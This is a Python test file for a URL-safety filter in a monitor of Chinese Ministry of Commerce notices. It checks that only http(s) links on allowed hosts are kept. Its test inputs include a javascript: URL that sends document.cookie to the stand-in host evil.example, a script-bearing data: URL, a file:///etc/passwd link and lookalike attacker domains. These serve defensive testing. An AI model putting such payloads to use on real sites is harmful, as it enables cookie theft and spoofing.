"""Only http(s) links on a source's hosts (or its link_hosts) become notice URLs."""

from __future__ import annotations

from datetime import date

import pytest

from monitor.adapters.base import ListedItem, PollResult
from monitor.adapters.links import allowed_hosts, link_problem, safe_links
from monitor.models import Attachment, RawNotice, SourceDef

SOURCE = SourceDef(
    id="mofcom-zcfb", name="zcfb", kind="mofcom-jpaas",
    url="https://www.mofcom.gov.cn/zwgk/zcfb/index.html", interval_s=900,
    base_url="http://127.0.0.1:9100", options={"link_hosts": ["www.gov.cn"]},
)  # fmt: skip
HOSTS = allowed_hosts(SOURCE)
GOOD = "https://www.mofcom.gov.cn/zwgk/zcfb/art/2025/art_5d1c9e7a2b4f4c62a8e3f6b0d7c21e62.html"


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        (GOOD, None),
        ("http://www.mofcom.gov.cn/article/b/c/200301/20030100062855.shtml", None),
        ("https://www.gov.cn/zhengce/content/202410/content_6981481.htm", None),
        ("http://127.0.0.1:9100/zwgk/zcfb/index.html", None),
        ("javascript:alert(document.cookie)", "unsafe_scheme"),
        ("  JavaScript:void(0)", "unsafe_scheme"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "unsafe_scheme"),
        ("vbscript:msgbox(1)", "unsafe_scheme"),
        ("file:///etc/passwd", "unsafe_scheme"),
        ("mailto:info@mofcom.gov.cn", "unsafe_scheme"),
        ("https:///no-host", "unsafe_scheme"),
        ("https://mofcom-gov.cn.example.net/zcfb/art_1.html", "foreign_host"),
        ("https://www.mofcom.gov.cn.evil.example/a.html", "foreign_host"),
    ],
)
def test_link_problems(url: str, problem: str | None) -> None:
    assert link_problem(url, HOSTS) == problem


def notice(url: str, *, attachments: tuple[Attachment, ...] = ()) -> RawNotice:
    return RawNotice(source_id=SOURCE.id, url=url, title="商务部公告2025年第62号", text="稀土",
                     published=date(2025, 10, 9), attachments=attachments)  # fmt: skip


def test_unsafe_items_are_dropped_with_a_reason_and_unsafe_attachments_removed() -> None:
    bad = "javascript:location='https://evil.example/?c='+document.cookie"
    files = (Attachment("https://www.mofcom.gov.cn/cms_files/a.pdf", "附件1.pdf"),
             Attachment("data:application/pdf;base64,JVBERi0=", "附件2.pdf"))  # fmt: skip
    result = PollResult(
        unchanged=False,
        notices=(notice(GOOD, attachments=files), notice(bad)),
        listed=(ListedItem(GOOD, "t", None), ListedItem(bad, "t", None)),
    )
    kept, dropped = safe_links(result, SOURCE)
    assert [n.url for n in kept.notices] == [GOOD] and [i.url for i in kept.listed] == [GOOD]
    assert [a.name for a in kept.notices[0].attachments] == ["附件1.pdf"]
    assert [(d.url, d.reason) for d in dropped] == [(bad, "unsafe_scheme")]


def test_a_clean_or_unchanged_result_is_returned_as_it_is() -> None:
    clean = PollResult(unchanged=False, notices=(notice(GOOD),),
                       listed=(ListedItem(GOOD, "t", None),))  # fmt: skip
    assert safe_links(clean, SOURCE) == (clean, [])
    unchanged = PollResult(unchanged=True)
    assert safe_links(unchanged, SOURCE) == (unchanged, [])


def test_a_dotted_link_host_allows_its_subdomains() -> None:
    family = allowed_hosts(
        SourceDef(
            id="z",
            name="z",
            kind="mofcom-jpaas",
            url=GOOD,
            interval_s=900,
            options={"link_hosts": [".mofcom.gov.cn"]},
        )
    )
    assert link_problem("http://big5.mofcom.gov.cn/gate/big5/a.shtml", family) is None
    assert link_problem("https://english.mofcom.gov.cn/a.html", family) is None
    assert link_problem("https://mofcom.gov.cn/a.html", family) is None
    assert link_problem("https://notmofcom.gov.cn/a.html", family) == "foreign_host"
    assert link_problem("https://mofcom.gov.cn.evil.example/a.html", family) == "foreign_host"


def test_a_star_allows_any_host_but_never_an_unsafe_scheme() -> None:
    anywhere = allowed_hosts(
        SourceDef(
            id="news",
            name="news",
            kind="rss",
            url="https://news.google.com/rss/search?q=rare+earth",
            interval_s=900,
            options={"link_hosts": ["*"]},
        )
    )
    assert link_problem("https://any-outlet.example/2025/10/09/rare-earths.html", anywhere) is None
    assert link_problem("javascript:alert(1)", anywhere) == "unsafe_scheme"
    assert link_problem("data:text/html,<b>x</b>", anywhere) == "unsafe_scheme"
